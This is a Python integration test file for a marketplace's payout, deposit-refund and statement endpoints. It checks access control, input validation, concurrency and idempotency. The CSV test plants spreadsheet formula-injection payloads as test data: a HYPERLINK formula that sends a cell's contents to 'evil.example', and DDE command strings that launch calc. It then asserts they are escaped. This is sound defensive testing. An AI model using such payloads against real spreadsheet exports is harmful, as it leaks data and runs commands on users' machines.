"""Issue 14's money endpoints under attack, through the public API, on both engines: a hostile
seller reaching for another seller's money or for the operators' endpoints, a careless operator,
amounts and currencies that are not money, statement periods that are not months, formulas in a
statement's CSV, odd and long text, the same request twice at once. Each refusal is a declared
problem (the OpenAPI document lists its status) naming the field and the rule, and changes
nothing; what must happen once happens once."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from tests.builders.market import Market, as_system, auth, issue_token
from tests.builders.money import assert_books_balance, entry_count, read
from tests.integration.test_deposits import fund, rate, send
from tuoguan.audit.models import Event
from tuoguan.context import Ctx
from tuoguan.kit.clock import FrozenClock
from tuoguan.ledger import service as ledger
from tuoguan.ledger.kinds import EntryKind
from tuoguan.ledger.models import JournalEntry
from tuoguan.principal import Role
from tuoguan.settlement.deposit_models import DepositRefund
from tuoguan.settlement.models import Payout, RailInstruction

PROBLEM = "application/problem+json"
MON_23 = datetime(2026, 11, 22, 16, 0, tzinfo=UTC)  # Monday 23 Nov, 00:00 in Shanghai
ACCOUNT = {
    "holder_name": "Seller A Trading Co.",
    "bank_name": "ICBC Shenzhen",
    "account_number": "6222 0212 3456 7890",
}
THIEF = {
    "holder_name": "Not The Seller",
    "bank_name": "Elsewhere Bank",
    "account_number": "GB33BUKB20201555555555",
}
_documents: dict[int, dict[str, Any]] = {}


# -- helpers ----------------------------------------------------------------------------------


def _declared(m: Market, answer: httpx.Response) -> None:
    """The OpenAPI document declares the status this operation answered (issue 10)."""
    document = _documents.get(id(m.client))
    if document is None:
        document = _documents[id(m.client)] = m.client.get("/api/v1/openapi.json").json()
    method, path = answer.request.method.lower(), answer.request.url.path
    for template, item in document["paths"].items():
        if method in item and re.fullmatch(re.sub(r"\{[^}]+\}", "[^/]+", template), path):
            responses = item[method]["responses"]
            assert str(answer.status_code) in responses, (
                f"{method.upper()} {template} answered {answer.status_code}, not declared"
            )
            return
    raise AssertionError(f"no operation for {method.upper()} {path}")


def _ok(m: Market, answer: httpx.Response, status: int = 200) -> Any:
    assert answer.status_code == status, answer.text
    _declared(m, answer)
    return answer.json() if answer.headers["content-type"] == "application/json" else answer


def _refused(
    m: Market,
    answer: httpx.Response,
    status: int,
    field: str | None = None,
    rule: str | None = None,
) -> dict[str, Any]:
    """A declared problem+json refusal naming ``field`` and ``rule`` (when given)."""
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == PROBLEM, answer.text
    body: dict[str, Any] = answer.json()
    if field is not None:
        assert body.get("field") == field, body
    if rule is not None:
        assert body.get("rule") == rule, body
    _declared(m, answer)
    return body


def _code(answer: httpx.Response) -> str:
    """A problem's code: the last part of its type."""
    return str(answer.json()["type"]).rsplit(":", 1)[-1]


def _put_account(m: Market, store_key: str, token: str, body: Any, **kw: Any) -> httpx.Response:
    return m.client.put(
        f"/api/v1/stores/{m.stores[store_key]}/payout-account",
        json=body,
        headers={**auth(token), **kw.pop("headers", {})},
    )


def _apply(m: Market, amount: Any, token: str | None = None, **kw: Any) -> httpx.Response:
    body = {"amount_minor": amount, "reason": kw.pop("reason", "leaving full-managed")}
    path = f"/stores/{m.stores['a_full']}/deposit/refunds"
    answer: httpx.Response = m.post(path, token or m.seller_tokens["a"], body, **kw)
    return answer


def _test_client(m: Market) -> TestClient:
    """The in-process client the market was built on."""
    assert isinstance(m.client, TestClient)
    return m.client


def _race(
    m: Market, requests: list[tuple[str, str, str, Any, dict[str, str]]]
) -> list[httpx.Response]:
    """(method, path, token, body, headers) sent at once into the running app: one event loop,
    real interleaving of their transactions."""

    client = _test_client(m)

    async def go() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app=client.app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as ac:
            return list(
                await asyncio.gather(
                    *[
                        ac.request(
                            method,
                            f"/api/v1{path}",
                            json=body,
                            headers={**auth(token), **headers},
                        )
                        for method, path, token, body, headers in requests
                    ]
                )
            )

    assert client.portal is not None
    return client.portal.call(go)


def _count(m: Market, model: Any, *where: Any) -> int:
    async def count(session: AsyncSession) -> int:
        query = select(func.count()).select_from(model).where(*where)
        return int(await session.scalar(query) or 0)

    return read(m.db_url, count)


def _post_entry(m: Market, kind: EntryKind, store_key: str, amount: int, at: datetime) -> None:
    """An entry on the store's accounts in USD, posted at ``at`` (as the rules would)."""

    async def work(session: AsyncSession, ctx: Ctx) -> None:
        await ledger.post(
            session,
            Ctx(principal=ctx.principal, clock=FrozenClock(at)),
            kind,
            currency="USD",
            parts={"amount": amount},
            store_id=m.stores[store_key],
        )

    as_system(m.db_url, work)


def _funded(m: Market, held: int = 150_000) -> None:
    """a_full's deposit: the rate, the transfer received, its payout account bound."""
    rate(m, held)
    _ok(m, fund(m, held, "TT-1"), 201)
    _ok(m, _put_account(m, "a_full", m.seller_tokens["a"], ACCOUNT))


# -- whose money ------------------------------------------------------------------------------


def test_another_sellers_money_is_not_found_whatever_is_asked(market: Market) -> None:
    # S3 M3: each seller reaches only its own stores' accounts, payouts, statements, deposit
    m = market
    _funded(m)
    applied = _ok(m, _apply(m, 50_000), 201)
    approved = _ok(m, m.post(f"/deposit-refunds/{applied['id']}/approve", m.operator))
    payout_id = approved["payout_id"]
    store, b = m.stores["a_full"], m.seller_tokens["b"]
    posted, events = entry_count(m.db_url), _count(m, Event)

    for answer in (
        m.get(f"/stores/{store}/payout-account", b),
        _put_account(m, "a_full", b, THIEF),
        m.get(f"/stores/{store}/payouts", b),
        m.get(f"/stores/{store}/payouts", b, params={"status": "prepared"}),
        m.get(f"/stores/{store}/statement", b),
        m.get(f"/stores/{store}/statement", b, params={"period": "2026-11", "format": "csv"}),
        m.get(f"/stores/{store}/statement", b, params={"period": "2026-11", "format": "pdf"}),
        m.get(f"/stores/{store}/deposit", b),
        m.get(f"/stores/{store}/deposit/refunds", b),
        _apply(m, 1, b),
    ):
        _refused(m, answer, 404, "store_id")
    _refused(m, m.get(f"/payouts/{payout_id}", b), 404, "payout_id")
    _refused(m, m.get(f"/deposit-refunds/{applied['id']}", b), 404, "refund_id")
    # a store id slipped into the query of a list of its own changes nothing it sees
    assert (
        _ok(m, m.get(f"/stores/{m.stores['b_full']}/payouts", b, params={"store_id": store})) == []
    )
    _refused(m, m.get("/payouts", b, params={"store_id": store}), 403)

    # nothing moved, and a's account is still a's
    assert (entry_count(m.db_url), _count(m, Event)) == (posted, events)
    book = _ok(m, m.get(f"/stores/{store}/payout-account", m.seller_tokens["a"]))
    assert book["current"]["account_number_masked"] == "•••• 7890" and book["history"] == []


def test_operator_endpoints_refuse_sellers_and_every_other_role(market: Market) -> None:
    # M3 S3: runs, every store's payouts, the refund queue and its decisions are operators'
    m = market
    _funded(m)
    applied = _ok(m, _apply(m, 50_000), 201)
    store = m.stores["a_full"]
    staff = issue_token(m.db_url, Role.warehouse, warehouse_ids=[m.platform_warehouse])
    posted = entry_count(m.db_url)
    operators_only: list[tuple[str, str, Any]] = [
        ("POST", "/payout-runs", {"cycle": "full_managed"}),
        ("GET", "/payout-runs", None),
        ("GET", "/payout-runs/prn_01KB0000000000000000000000", None),
        ("POST", "/payout-runs/prn_01KB0000000000000000000000/execute", None),
        ("GET", "/payouts", None),
        ("GET", "/deposit-refunds", None),
        ("POST", f"/deposit-refunds/{applied['id']}/approve", None),
        ("POST", f"/deposit-refunds/{applied['id']}/reject", {"reason": "no"}),
        (
            "POST",
            f"/stores/{store}/deposit/fundings",
            {"amount_minor": 1, "currency": "USD", "reference": "mine"},
        ),
        ("POST", "/deposit-rates", {"category": "*", "currency": "USD", "amount_minor": 1}),
    ]
    sellers_too: list[tuple[str, str, Any]] = [
        ("GET", f"/stores/{store}/payout-account", None),
        ("PUT", f"/stores/{store}/payout-account", THIEF),
        ("GET", f"/stores/{store}/payouts", None),
        ("GET", "/payouts/pay_01KB0000000000000000000000", None),
        ("GET", f"/stores/{store}/statement", None),
        ("GET", f"/stores/{store}/deposit", None),
        ("GET", f"/stores/{store}/deposit/refunds", None),
        ("POST", f"/stores/{store}/deposit/refunds", {"amount_minor": 1, "reason": "x"}),
        ("GET", f"/deposit-refunds/{applied['id']}", None),
    ]
    for token, calls in (
        (m.seller_tokens["a"], operators_only),
        (m.seller_tokens["b"], operators_only),
        (staff, operators_only + sellers_too),
        (m.carrier, operators_only + sellers_too),
        (m.channel, operators_only + sellers_too),
    ):
        for method, path, body in calls:
            answer = m.client.request(method, f"/api/v1{path}", json=body, headers=auth(token))
            _refused(m, answer, 403)
    assert entry_count(m.db_url) == posted
    (only,) = _ok(m, m.get(f"/stores/{store}/deposit/refunds", m.seller_tokens["a"]))
    assert only["status"] == "applied"
    book = _ok(m, m.get(f"/stores/{store}/payout-account", m.operator))
    assert book["current"]["holder_name"] == ACCOUNT["holder_name"]


# -- amounts and currencies -------------------------------------------------------------------


def test_amounts_that_are_not_whole_positive_minor_units_are_refused(market: Market) -> None:
    # issue 14 (bad input): fractions, floats, text, huge, zero or negative amounts post nothing
    m = market
    _funded(m)
    posted = entry_count(m.db_url)
    bad: list[tuple[Any, str]] = [
        (0.5, "no_fractions"),
        (1999.99, "no_fractions"),
        (1.0, "int_type"),
        ("100", "int_type"),
        (True, "int_type"),
        (None, "int_type"),
        ([100], "int_type"),
        (0, "greater_than_equal"),
        (-100, "greater_than_equal"),
        (10**13, "less_than_equal"),
        (10**40, "less_than_equal"),
    ]
    for amount, rule in bad:
        _refused(m, _apply(m, amount), 422, "amount_minor", rule)
        _refused(m, fund(m, amount, f"TT-{rule}"), 422, "amount_minor", rule)
    # what JSON cannot say but a parser reads: 1e400 is infinity, NaN
    for raw in (b"1e400", b"-1e400", b"NaN", b"1e-400"):
        for path, rest in (
            (f"/stores/{m.stores['a_full']}/deposit/refunds", b'"reason": "x"'),
            (
                f"/stores/{m.stores['a_full']}/deposit/fundings",
                b'"currency": "USD", "reference": "TT-raw"',
            ),
        ):
            token = m.seller_tokens["a"] if path.endswith("refunds") else m.operator
            answer = m.client.post(
                f"/api/v1{path}",
                content=b'{"amount_minor": ' + raw + b", " + rest + b"}",
                headers={**auth(token), "Content-Type": "application/json"},
            )
            _refused(m, answer, 422, "amount_minor")
    assert entry_count(m.db_url) == posted
    assert _ok(m, m.get(f"/stores/{m.stores['a_full']}/deposit/refunds", m.operator)) == []
    assert_books_balance(m.db_url)


def test_a_refund_above_what_is_refundable_now_is_refused_and_posts_nothing(
    market: Market,
) -> None:
    # S3 / issue 14: a refund larger than the refundable amount, at application and at approval
    m = market
    _funded(m)
    over = _refused(m, _apply(m, 150_001), 422, "amount_minor", "within_refundable")
    assert over["refundable_minor"] == 150_000
    applied = _ok(m, _apply(m, 150_000), 201)
    # the store comes to owe a fee after it applied: the whole deposit is no longer refundable
    _post_entry(m, EntryKind.shipping_fee_charged, "a_full", 600, MON_23 - timedelta(days=3))
    posted = entry_count(m.db_url)
    refused = _refused(
        m,
        m.post(f"/deposit-refunds/{applied['id']}/approve", m.operator),
        409,
        "amount_minor",
        "within_refundable",
    )
    assert refused["refundable_minor"] == 149_400
    assert entry_count(m.db_url) == posted
    (still,) = _ok(m, m.get(f"/stores/{m.stores['a_full']}/deposit/refunds", m.operator))
    assert (still["status"], still["payout_id"]) == ("applied", None)
    assert _count(m, Payout) == 0
    assert_books_balance(m.db_url)


def test_mismatched_currencies_are_refused_and_nothing_is_posted(market: Market) -> None:
    # issue 14 (bad input): mismatched currencies; S3: the refund goes to the bound account
    m = market
    rate(m, 150_000)
    store, a = m.stores["a_full"], m.seller_tokens["a"]
    _refused(m, fund(m, 100, "TT-EUR", currency="EUR"), 422, "currency", "store_currency")
    for code in ("US", "XXX", "€€€", "usdd", "\u0000"):
        _refused(m, fund(m, 100, "TT-bad", currency=code), 422, "currency")
        _refused(
            m, m.get(f"/stores/{store}/statement", a, params={"currency": code}), 422, "currency"
        )
        _refused(m, _put_account(m, "a_full", a, {**ACCOUNT, "currency": code}), 422, "currency")
    assert entry_count(m.db_url) == 0
    # an account in another currency than the deposit's: the approval pays nothing
    _ok(m, fund(m, 150_000, "TT-1"), 201)
    _ok(m, _put_account(m, "a_full", a, {**ACCOUNT, "currency": "EUR"}))
    applied = _ok(m, _apply(m, 50_000), 201)
    posted = entry_count(m.db_url)
    path = f"/deposit-refunds/{applied['id']}/approve"
    _refused(m, m.post(path, m.operator), 409, "currency", "payout_account_currency")
    assert entry_count(m.db_url) == posted and _count(m, Payout) == 0
    # bound in the deposit's currency, the same application is approved
    _ok(m, _put_account(m, "a_full", a, ACCOUNT))
    assert _ok(m, m.post(path, m.operator))["payout_minor"] == 50_000
    assert_books_balance(m.db_url)


# -- twice, at once ---------------------------------------------------------------------------


def test_two_applications_at_once_make_one(market: Market) -> None:
    # S3: one application at a time, whatever arrives together (on PostgreSQL, truly at once)
    m = market
    _funded(m)
    path, a = f"/stores/{m.stores['a_full']}/deposit/refunds", m.seller_tokens["a"]
    for round_ in range(2):
        body = {"amount_minor": 10_000 + round_, "reason": "twice"}
        answers = _race(m, [("POST", path, a, body, {}) for _ in range(4)])
        made = [r for r in answers if r.status_code == 201]
        assert len(made) == 1, [r.text for r in answers]
        for answer in answers:
            if answer.status_code != 201:
                _refused(m, answer, 409, "store_id", "one_open_application")
        refund = made[0].json()["id"]
        _ok(m, m.post(f"/deposit-refunds/{refund}/reject", m.operator, {"reason": "again"}))
    assert _count(m, DepositRefund) == 2


def test_two_approvals_at_once_pay_once(market: Market) -> None:
    # S3: an application is decided once; its refund is paid once
    m = market
    _funded(m)
    applied = _ok(m, _apply(m, 50_000), 201)
    approve = f"/deposit-refunds/{applied['id']}/approve"
    reject = f"/deposit-refunds/{applied['id']}/reject"
    answers = _race(
        m,
        [
            ("POST", approve, m.operator, None, {}),
            ("POST", approve, m.operator, None, {}),
            ("POST", reject, m.operator, {"reason": "changed my mind"}, {}),
        ],
    )
    decided = [r for r in answers if r.status_code == 200]
    assert len(decided) == 1, [r.text for r in answers]
    for answer in answers:
        if answer.status_code != 200:
            _refused(m, answer, 409, rule=None)
            assert _code(answer) in ("illegal_transition", "concurrent_update")
    outcome = decided[0].json()["status"]
    assert _count(m, Payout) == (1 if outcome == "approved" else 0)
    refunded = _count(m, JournalEntry, JournalEntry.kind == EntryKind.deposit_refunded)
    assert refunded == (1 if outcome == "approved" else 0)
    assert_books_balance(m.db_url)


def _run_due(m: Market, clock: FrozenClock) -> None:
    """a_full is due 100.00 with an account bound; the clock past the weekly boundary."""
    _ok(m, _put_account(m, "a_full", m.seller_tokens["a"], ACCOUNT))
    _post_entry(m, EntryKind.insurance_claim_paid, "a_full", 10_000, MON_23 - timedelta(days=3))
    clock.current = MON_23 + timedelta(hours=2)


def test_a_run_executed_twice_at_once_pays_once(market: Market, clock: FrozenClock) -> None:
    # M3: a payout is sent at most once; a second payout of the same run is refused
    m = market
    _run_due(m, clock)
    run = _ok(m, m.post("/payout-runs", m.operator, {"cycle": "full_managed"}), 201)
    path = f"/payout-runs/{run['id']}/execute"
    answers = _race(m, [("POST", path, m.operator, None, {}) for _ in range(3)])
    assert sorted(r.status_code for r in answers) == [200, 409, 409], [r.text for r in answers]
    for answer in answers:
        if answer.status_code == 409:
            body = _refused(m, answer, 409)
            assert (_code(answer), body.get("rule")) in (
                ("conflict", "run_once"),
                ("concurrent_update", None),
            ), body
    assert _count(m, Payout) == 1
    # two previews of one boundary (a careless pair of operators), executed at once: paid once
    _post_entry(m, EntryKind.insurance_claim_paid, "a_full", 5_000, MON_23 + timedelta(days=5))
    clock.current = MON_23 + timedelta(days=7, hours=2)
    previews = _race(
        m, [("POST", "/payout-runs", m.operator, {"cycle": "full_managed"}, {}) for _ in range(2)]
    )
    ids = [r.json()["id"] for r in previews if r.status_code == 201]
    answers = _race(m, [("POST", f"/payout-runs/{i}/execute", m.operator, None, {}) for i in ids])
    assert [r.status_code for r in answers].count(200) == 1, [r.text for r in answers]
    for answer in answers:
        if answer.status_code != 200:
            _refused(m, answer, 409)
    assert _count(m, Payout) == 2
    assert_books_balance(m.db_url)


def test_an_idempotency_key_reused_for_another_request_is_refused(
    market: Market, clock: FrozenClock
) -> None:
    # issue 14: mutating POSTs replay their key; the key with another body changes nothing
    m = market
    _funded(m)
    a, key = m.seller_tokens["a"], {"Idempotency-Key": m.new_key()}
    applied = _ok(m, _apply(m, 10_000, headers=key), 201)
    _refused(m, _apply(m, 20_000, headers=key), 422, "Idempotency-Key")
    for bad_key in ("", "k" * 256):
        _refused(m, _apply(m, 20_000, headers={"Idempotency-Key": bad_key}), 422, "Idempotency-Key")
    # the same key on another endpoint of the same seller
    _refused(m, _put_account(m, "a_full", a, THIEF, headers=key), 422, "Idempotency-Key")
    assert _ok(m, m.get(f"/stores/{m.stores['a_full']}/payout-account", a))["history"] == []
    (only,) = _ok(m, m.get(f"/stores/{m.stores['a_full']}/deposit/refunds", a))
    assert (only["id"], only["amount_minor"]) == (applied["id"], 10_000)
    # an operator's key: an approval's key sent with a reject of it
    op_key = {"Idempotency-Key": m.new_key()}
    approve = f"/deposit-refunds/{applied['id']}/approve"
    approved = _ok(m, m.post(approve, m.operator, headers=op_key))
    _refused(m, m.post(approve, m.operator, {"note": "other"}, headers=op_key), 422)
    reject = f"/deposit-refunds/{applied['id']}/reject"
    _refused(m, m.post(reject, m.operator, {"reason": "x"}, headers=op_key), 422, "Idempotency-Key")
    assert _ok(m, m.post(approve, m.operator, headers=op_key))["payout_id"] == approved["payout_id"]
    # a run's execution key sent with another run
    _run_due(m, clock)
    run = _ok(m, m.post("/payout-runs", m.operator, {"cycle": "full_managed"}), 201)
    run_key = {"Idempotency-Key": m.new_key()}
    _ok(m, m.post(f"/payout-runs/{run['id']}/execute", m.operator, headers=run_key))
    other = "/payout-runs/prn_01KB0000000000000000000000/execute"
    _refused(m, m.post(other, m.operator, headers=run_key), 422, "Idempotency-Key")
    assert _count(m, Payout) == 2


# -- statements -------------------------------------------------------------------------------


def test_statement_periods_that_are_not_months_are_problems(market: Market) -> None:
    # issue 14: statement periods huge, inverted, malformed, far past or future: 4xx, never 500
    m = market
    a, path = m.seller_tokens["a"], f"/stores/{m.stores['a_self']}/statement"
    day = "2026-11-01T00:00:00+08:00"
    bad: list[tuple[dict[str, str], str, str | None]] = [
        ({"period": "2026-13"}, "period", "year_month"),
        ({"period": "2026-00"}, "period", "year_month"),
        ({"period": "2026-1"}, "period", "year_month"),
        ({"period": "26-11"}, "period", "year_month"),
        ({"period": "abcd-ef"}, "period", "year_month"),
        ({"period": "202²-11"}, "period", "year_month"),  # a superscript is a digit to isdigit()
        ({"period": "２０２６-１１"}, "period", "year_month"),  # fullwidth digits
        ({"period": "٢٠٢٦-١١"}, "period", "year_month"),  # Arabic-Indic digits
        ({"period": "0000-01"}, "period", "year_range"),
        ({"period": "9999-12"}, "period", "year_range"),
        ({"period": "2026-11-01"}, "period", None),  # longer than a month
        ({"period": "2026-11", "start": day, "end": day}, "period", "period_or_range"),
        ({"start": day}, "end", "required_with_start"),
        ({"end": day}, "start", "required_with_end"),
        ({"start": day, "end": day}, "end", "after_start"),
        ({"start": day, "end": "2026-10-01T00:00:00+08:00"}, "end", "after_start"),
        ({"start": "1970-01-01T00:00:00Z", "end": "9998-01-01T00:00:00Z"}, "end", "max_days"),
        ({"start": day, "end": "2027-11-03T00:00:00+08:00"}, "end", "max_days"),
        ({"start": "2026-11-01T00:00:00", "end": day}, "start", None),  # no offset
        ({"start": "0001-01-01T00:00:00+01:00", "end": day}, "start", None),
        ({"start": "9998-12-31T20:00:00-14:00", "end": "9998-12-31T22:00:00-14:00"}, "start", None),
        ({"start": "yesterday", "end": day}, "start", None),
        ({"format": "xlsx"}, "format", None),
    ]
    for params, field, rule in bad:
        for fmt in ("json", "csv", "pdf"):
            query = {"format": fmt, **params}
            _refused(m, m.get(path, a, params=query), 422, field, rule)
    # the first and the last months there are, in every format
    for period in ("1970-01", "9998-12"):
        body = _ok(m, m.get(path, a, params={"period": period}))
        assert body["opening_minor"] == body["closing_minor"] == 0 and body["lines"] == []
        assert _ok(m, m.get(path, a, params={"period": period, "format": "csv"})).content
        assert _ok(m, m.get(path, a, params={"period": period, "format": "pdf"})).content[:4] == (
            b"%PDF"
        )


def test_a_statement_csv_never_hands_a_spreadsheet_a_formula(market: Market) -> None:
    # issue 14: statements in CSV; a seller's store name or an operator's memo is text
    m = market
    a, store = m.seller_tokens["a"], m.stores["a_self"]
    evil = '=HYPERLINK("http://evil.example/"&A1,"statement")'
    _ok(m, m.client.patch(f"/api/v1/stores/{store}", json={"name": evil}, headers=auth(a)))
    _post_entry(
        m, EntryKind.insurance_claim_paid, "a_self", 5_000, datetime(2026, 11, 10, tzinfo=UTC)
    )
    accounts = _ok(m, m.get("/ledger/accounts", m.operator, params={"store_id": store}))
    (receivable,) = [x for x in accounts if x["kind"] == "receivable" and x["currency"] == "USD"]
    platform = _ok(m, m.get("/ledger/accounts", m.operator, params={"owner": "platform"}))
    (insurer,) = [
        x for x in platform if x["kind"] == "insurance_recoverable" and x["currency"] == "USD"
    ]
    memos = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1"]
    made = []
    for n, memo in enumerate(memos):
        legs = [
            {"account_id": receivable["id"], "amount_minor": -(n + 1), "currency": "USD"},
            {"account_id": insurer["id"], "amount_minor": n + 1, "currency": "USD"},
        ]
        answer = m.post("/ledger/entries", m.operator, {"postings": legs, "memo": memo})
        if answer.status_code == 422:  # a memo the ledger refuses is no risk either
            continue
        made.append(_ok(m, answer, 201))
    assert made
    reverse = f"/ledger/entries/{made[0]['id']}/reverse"
    _ok(m, m.post(reverse, m.operator, {"reason": "=2+2"}), 201)
    answer = _ok(
        m, m.get(f"/stores/{store}/statement", a, params={"period": "2026-11", "format": "csv"})
    )
    text = answer.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    number = re.compile(r"^-?\d+(\.\d+)?$")
    cells = [cell for row in rows for cell in row if cell]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), rows[0]
    assert any(cell.startswith("'=cmd") for cell in cells), rows
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or number.match(cell), cell


# -- text ------------------------------------------------------------------------------------


def test_long_and_odd_text_is_refused_or_kept_as_it_was_sent(market: Market) -> None:
    # S3: bad input is a problem naming the field and changes nothing; odd but valid text is kept
    m = market
    _funded(m)
    a = m.seller_tokens["a"]
    for body, field, rule in [
        ({**ACCOUNT, "holder_name": "x" * 201}, "holder_name", "string_too_long"),
        ({**ACCOUNT, "holder_name": "x" * 100_000}, "holder_name", "string_too_long"),
        ({**ACCOUNT, "bank_name": "ICBC\x00"}, "bank_name", None),
        ({**ACCOUNT, "account_number": "6" * 65}, "account_number", "string_too_long"),
        ({**ACCOUNT, "account_number": "６２２２０２１２３４５６"}, "account_number", None),
        ({**ACCOUNT, "account_number": "ﬀ12345678"}, "account_number", "account_number_format"),
        ({**ACCOUNT, "account_number": "ı12345678"}, "account_number", "account_number_format"),
        ({**ACCOUNT, "account_number": "6222\u200b0212"}, "account_number", None),
    ]:
        _refused(m, _put_account(m, "a_full", a, body), 422, field, rule)
    # a lone surrogate, which JSON can escape and no database can store
    lone = m.client.put(
        f"/api/v1/stores/{m.stores['a_full']}/payout-account",
        content=b'{"holder_name": "\\ud800", "bank_name": "b", "account_number": "12345678"}',
        headers={**auth(a), "Content-Type": "application/json"},
    )
    _refused(m, lone, 422, "holder_name")
    for reason, rule in (
        ("x" * 501, "string_too_long"),
        ("   ", "string_too_short"),
        ("\x00", None),
    ):
        _refused(m, _apply(m, 1, reason=reason), 422, "reason", rule)
    book = _ok(m, m.get(f"/stores/{m.stores['a_full']}/payout-account", a))
    assert book["current"]["holder_name"] == ACCOUNT["holder_name"] and book["history"] == []
    # right-to-left overrides, emoji and CJK are a holder's name as typed
    odd = {
        **ACCOUNT,
        "holder_name": "\u202eoc gnidart\u202c 深圳 🚀",
        "account_number": "gb33-bukb",
    }
    bound = _ok(m, _put_account(m, "a_full", a, odd))
    assert bound["holder_name"] == odd["holder_name"]
    assert bound["account_number_masked"] == "•••• BUKB"
    reason = "关店 🚀 \u202e" + "理" * 400
    assert _ok(m, _apply(m, 1, reason=reason), 201)["reason"] == reason


# -- where the money goes ---------------------------------------------------------------------


def test_rebinding_after_an_approval_does_not_redirect_its_payout(
    market: Market, clock: FrozenClock
) -> None:
    # S3: the refund goes to the account bound when it was approved; M3: each move is audited
    m = market
    _funded(m)
    applied = _ok(m, _apply(m, 50_000), 201)
    approved = _ok(m, m.post(f"/deposit-refunds/{applied['id']}/approve", m.operator))
    # the seller's token, in other hands, binds another account at once
    _ok(m, _put_account(m, "a_full", m.seller_tokens["a"], THIEF))
    assert send(_test_client(m), clock) == 1

    async def sent(session: AsyncSession) -> list[tuple[str, str, int]]:
        rows = await session.execute(
            select(
                RailInstruction.account_number, RailInstruction.key, RailInstruction.amount_minor
            )
        )
        return [(number, key, amount) for number, key, amount in rows]

    assert read(m.db_url, sent) == [("622202123456" + "7890", approved["payout_id"], 50_000)]
    payout = _ok(m, m.get(f"/payouts/{approved['payout_id']}", m.seller_tokens["a"]))
    assert (payout["status"], payout["account"]["account_number_masked"]) == ("sent", "•••• 7890")

    # every journal entry, payout and decision has its audit event
    async def unaudited(session: AsyncSession) -> list[str]:
        audited = select(Event.subject_id).where(Event.subject_type == "journal_entry")
        rows = await session.scalars(select(JournalEntry.id).where(JournalEntry.id.not_in(audited)))
        return list(rows)

    assert read(m.db_url, unaudited) == []

    async def actions(session: AsyncSession) -> set[tuple[str, str]]:
        rows = await session.execute(
            select(Event.subject_type, Event.action).where(
                Event.subject_id.in_([applied["id"], approved["payout_id"]])
            )
        )
        return {(subject, action) for subject, action in rows}

    assert read(m.db_url, actions) >= {
        ("deposit_refund", "apply"),
        ("deposit_refund", "approve"),
        ("payout", "prepare"),
        ("payout", "send"),
        ("payout", "sent"),
    }
    assert_books_balance(m.db_url)


def test_accounts_bound_at_once_leave_one_in_force(market: Market) -> None:
    # S3: one payout account in force per store, whatever arrives together
    m = market
    a, path = m.seller_tokens["a"], f"/stores/{m.stores['a_full']}/payout-account"
    bodies = [{**ACCOUNT, "account_number": f"6222021234500{n}"} for n in range(4)]
    answers = _race(m, [("PUT", path, a, body, {}) for body in bodies])
    assert [r.status_code for r in answers] == [200] * 4, [r.text for r in answers]
    book = _ok(m, m.get(path, a))
    assert book["current"] is not None and len(book["history"]) == 3
    shown = {book["current"]["id"], *(x["id"] for x in book["history"])}
    assert shown == {r.json()["id"] for r in answers}


def test_a_mistyped_far_future_deposit_rate_does_not_lock_its_category(market: Market) -> None:
    # S3 (careless operator): the deposit by category is configuration that can be corrected
    m = market
    body = {"category": "*", "currency": "USD", "amount_minor": 150_000}
    typo = m.post("/deposit-rates", m.operator, {**body, "effective_from": "2062-01-01T00:00:00Z"})
    assert typo.status_code == 422, typo.text  # refused outright: nothing is locked
    assert (typo.json()["field"], typo.json()["rule"]) == ("effective_from", "within_horizon")
    fixed = {**body, "effective_from": "2027-01-01T00:00:00Z"}
    _ok(m, m.post("/deposit-rates", m.operator, fixed), 201)
